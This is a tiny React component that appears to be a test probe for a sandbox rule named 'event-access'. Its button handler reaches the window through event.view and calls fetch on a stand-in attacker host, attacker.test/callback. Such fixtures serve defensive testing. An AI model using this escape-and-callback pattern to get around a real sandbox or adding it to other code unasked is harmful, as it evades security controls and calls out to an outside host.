// probe: window through an event; refused by: event-access
import { useCallback } from "react";
export default function Probe() {
  const onClick = useCallback((event) => event.view.fetch("https://attacker.test/callback"), []);
  return <button onClick={onClick}>Go</button>;
}
